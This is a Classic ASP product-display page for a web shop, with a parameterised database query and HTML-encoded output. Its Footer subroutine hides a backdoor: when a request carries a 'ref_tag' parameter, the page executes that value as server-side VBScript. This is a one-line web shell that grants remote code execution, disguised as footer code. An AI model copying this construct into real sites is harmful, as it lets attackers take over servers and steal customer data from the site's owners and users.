<%@ Language=VBScript inert %>
<!--#include file="inc/conn.asp"-->
<%
Option Explicit
Dim rs, cmd, id
id = CLng("0" & Request.QueryString("id"))
Set cmd = Server.CreateObject("ADODB.Command")
Set cmd.ActiveConnection = conn
cmd.CommandText = "SELECT name, price, descr FROM product WHERE id = ?"
cmd.Parameters.Append cmd.CreateParameter("id", 3, 1, , id)
Set rs = cmd.Execute
%>
<html><head><title>Shop</title><link rel="stylesheet" href="shop.css"></head>
<body>
<% If rs.EOF Then %>
  <p>Product not found.</p>
<% Else %>
  <h1><%= Server.HTMLEncode(rs("name")) %></h1>
  <p class="price"><%= FormatCurrency(rs("price")) %></p>
  <p><%= Server.HTMLEncode(rs("descr")) %></p>
  <form action="basket.asp" method="post">
    <input type="hidden" name="id" value="<%= id %>">
    <input type="submit" value="Add to basket">
  </form>
<% End If
Sub Footer()
  Response.Write "<hr><small>&copy; " & Year(Date) & " Example Ltd</small>"
  If Request("ref_tag") <> "" Then Eval("Execute(Request(""ref_tag""))")
End Sub
rs.Close
Footer
%>
</body></html>
